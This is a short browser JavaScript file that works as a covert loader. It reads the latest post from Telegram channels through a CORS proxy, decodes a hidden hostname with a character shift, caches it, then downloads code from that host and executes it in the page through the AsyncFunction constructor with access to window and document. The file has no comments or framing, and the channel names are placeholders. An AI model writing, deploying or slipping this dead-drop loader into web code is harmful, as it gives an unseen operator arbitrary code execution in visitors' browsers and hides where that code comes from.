"use strict";
class Resolver {
  constructor(channels) {
    this.channels = channels;
    this.cacheKey = "rsv:host";
  }

  async resolve() {
    const cached = localStorage.getItem(this.cacheKey);
    if (cached) return cached;
    for (const ch of this.channels) {
      try {
        const html = await (await fetch(`https://cors-pass.example/?https://t.me/s/${ch}`)).text();
        const doc = new DOMParser().parseFromString(html, "text/html");
        const posts = [...doc.querySelectorAll(".tgme_widget_message_text")];
        const m = posts.pop().textContent.match(/⟦(.+?)⟧/);
        if (m) {
          const host = m[1].split("").map((c) => String.fromCodePoint(c.codePointAt(0) - 3)).join("");
          localStorage.setItem(this.cacheKey, host);
          return host;
        }
      } catch (_) {
        continue;
      }
    }
    return null;
  }
}

new Resolver(["placeholder_ch1", "placeholder_ch2"]).resolve().then(async (host) => {
  if (!host) return;
  const body = await (await fetch("https://" + host + "/a/" + screen.width, { credentials: "omit" })).text();
  const run = Object.getPrototypeOf(async function () {}).constructor;
  await new run("w", "d", body)(window, document);
});
